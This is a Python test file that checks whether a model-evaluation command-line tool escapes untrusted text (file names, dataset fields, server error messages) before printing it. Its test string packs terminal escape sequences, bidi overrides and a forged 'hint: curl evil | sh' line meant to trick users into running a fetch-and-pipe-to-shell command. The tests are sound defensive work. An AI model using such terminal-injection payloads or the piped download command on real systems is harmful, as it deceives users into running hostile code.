"""Text from outside, as it appears at the terminal: through the commands that print it."""

import http.server
import json
import os
import subprocess
import sys
import threading
import unicodedata
from pathlib import Path

import pytest

from factory import make_samples, write_image
from qwen2vl_rs.cli import main
from qwen2vl_rs.datasets.tables import write_conversations
from qwen2vl_rs.reporting.text import pair_table
from qwen2vl_rs.scoring.pairs import Pair
from qwen2vl_rs.system.console import Progress, say, warn

FORGED = "hint: curl evil | sh"
EVIL = f"a\x1b[2J\x1b]0;x\x07\r\n{FORGED}\t\x7f\x9b31m\u202e\u2066\u2028\u200f\ufeffend"
KEPT = "道路 déjà 👨‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 می‌خواهم"
TURNS = set("\u061c\u200e\u200f\ufeff") | set(
    map(chr, [*range(0x2028, 0x202F), *range(0x2066, 0x2070)])
)


def require_harmless(text: str) -> None:
    steering = [c for c in text if c != "\n" and (unicodedata.category(c) == "Cc" or c in TURNS)]
    assert not steering, ascii(text)
    assert not [line for line in text.split("\n") if line.lstrip().startswith(FORGED)], text


@pytest.fixture
def said(capsys):
    """Runs a command; its output, once it is known to be harmless and to hold some of the text."""

    def run(code, *args, kept="", between=""):
        assert main([str(arg) for arg in args]) == code
        out, err = capsys.readouterr()
        require_harmless("".join((out + err).split(between)) if between else out + err)
        assert kept in out + err
        return out, err

    return run


@pytest.fixture
def predictions(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rows = [
        {"id": f"{n}{EVIL}", "image": f"{n % 3}{EVIL}.tif", "question": EVIL, "answer": "yes",
         "type": EVIL + KEPT if n % 2 else "presence", "prediction": EVIL if n % 3 else "yes"}
        for n in range(8)
    ]  # fmt: skip
    for name, end in (("after.jsonl", ""), ("before.jsonl", "other")):
        lines = [json.dumps({**row, "id": f"{row['id']}{end if n < 2 else ''}"}) + "\n"
                 for n, row in enumerate(rows)]  # fmt: skip
        Path(name).write_text("".join(lines))
    return rows


def test_types_and_ids_in_scores(predictions, said):
    out, _ = said(0, "score", "after.jsonl", "--against", "before.jsonl", kept=KEPT)
    assert r"a\x1b[2J\x1b]0;x\x07\r\nhint: curl" in out
    assert "In one run only: 2 before" in out


def test_json_is_exact_all_the_same(predictions, said):
    out, _ = said(0, "score", "after.jsonl", "--json", kept=KEPT)
    assert EVIL + KEPT in json.loads(out)["protocols"]["official"]["types"]


def test_where_a_report_is_written(predictions, said):
    out, _ = said(0, "report", "--after", "after.jsonl", "-o", EVIL)
    assert Path(EVIL, "report.html").is_file()
    assert out.count("\n") == 1


def test_questions_and_answers_side_by_side():
    texts = dict.fromkeys(("id", "image", "question", "type", "answer", "before", "after"), EVIL)
    table = pair_table([Pair(**texts | {"type": KEPT}, before_score=1.0, after_score=0.0)])
    require_harmless(table)
    assert KEPT in table
    assert table.count("\n") == 5


def test_questions_and_answers_of_ask(small_base, tmp_path, said):
    write_image(tmp_path / f"{EVIL}.tif", 56, 1)
    write_image(tmp_path / "b.tif", 56, 2)
    images = [tmp_path / f"{EVIL}.tif", tmp_path / "b.tif"]
    questions = [f"{EVIL}{KEPT}?", "Is it rural?"]
    out, _ = said(0, "ask", small_base, *images, *questions, kept=KEPT, between="\t")
    assert [line.count("\t") for line in out.splitlines()] == [2] * 4


def test_file_names_that_are_no_text(small_base, tmp_path, monkeypatch, said):
    monkeypatch.chdir(tmp_path)
    name = os.fsdecode(b"a\xff\x9b\x1b.png")
    write_image(Path("b.tif"), 56, 1)
    Path(name).write_bytes(Path("b.tif").read_bytes())
    asked = ("map", small_base, name, "b.tif", "Is it rural?")
    said(1, *asked, kept="is not valid UTF-8")
    out, _ = said(1, *asked, "--json")
    assert json.loads(out)[0]["scene"] == name


@pytest.mark.parametrize(
    ("code", "args"),
    [
        (1, ["score", EVIL]),
        (1, ["eval", EVIL]),
        (1, ["ask", EVIL, f"{EVIL}.png", "Is there a road?"]),
        (1, ["csv2json", "--input", "columns.csv"]),
        (1, ["train", "--set", EVIL]),
        (1, ["train", "--set", f"{EVIL}=1"]),
        (1, ["train", "settings.toml"]),
        (2, [EVIL]),
        (2, ["score", f"--{EVIL}"]),
        (2, ["score", "x", "--dataset", EVIL]),
        (2, ["csv2json", EVIL]),
        (1, ["load", EVIL]),
        (1, ["map", EVIL, "scene.tif", "Is there a road?"]),
        (1, ["report", EVIL]),
        (1, ["eval", "--endpoint", EVIL, "--model", "m", "--test", EVIL]),
    ],
)
def test_names_and_values(tmp_path, monkeypatch, said, code, args):
    monkeypatch.chdir(tmp_path)
    Path("columns.csv").write_text(f'"{EVIL}",b\n1,2\n', "utf-8", newline="")
    escaped = json.dumps(EVIL).replace("\x7f", "\\u007f")
    Path("settings.toml").write_text(f"[lora]\n{escaped} = 1\n", "utf-8")
    _, err = said(code, *args)
    assert "Traceback" not in err


def test_what_a_server_says(tmp_path, monkeypatch, said):
    monkeypatch.chdir(tmp_path)
    write_conversations(tmp_path / "test.json", make_samples(tmp_path / "images", images=1))
    body = {"error": {"message": f"{EVIL} {KEPT}"}}

    class Refuses(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            data = json.dumps(body).encode()
            self.send_response(401)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Refuses) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,)).start()
        url = f"http://127.0.0.1:{server.server_port}/v1"
        told = ("--endpoint", url, "--model", EVIL, "--test", "test.json")
        _, err = said(1, "eval", *told, kept=KEPT)
        server.shutdown()
    assert err.splitlines()[-1] == "hint: put the right key into OPENAI_API_KEY"


def test_what_is_said_meanwhile(capsys, monkeypatch):
    monkeypatch.setattr("qwen2vl_rs.system.console._WAIT", {True: (0, 0), False: (0, 0)})
    say(EVIL + KEPT)
    warn(EVIL + KEPT, EVIL)
    with Progress(EVIL, 3, "files") as bar:
        bar.advance(1, EVIL + KEPT)
    err = capsys.readouterr().err
    require_harmless(err)
    assert err.count(KEPT) == 3
    assert err.count("\n") == 4  # one line each


def test_what_libraries_say():
    code = (
        "import logging, sys, warnings\n"
        "from qwen2vl_rs.cli import main\n"
        "assert main(['--version']) == 0\n"
        "logging.getLogger('rasterio._env').warning('tag %s', sys.argv[1])\n"
        "warnings.warn(sys.argv[1])\n"
        "raise ValueError(sys.argv[1]) from OSError('first')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, EVIL + KEPT], capture_output=True, check=False, timeout=60
    )
    text = done.stderr.decode()
    require_harmless(text)
    assert text.count(KEPT) == 3
    assert done.returncode == 1
    assert text.splitlines()[-1].startswith("ValueError: a\\x1b")
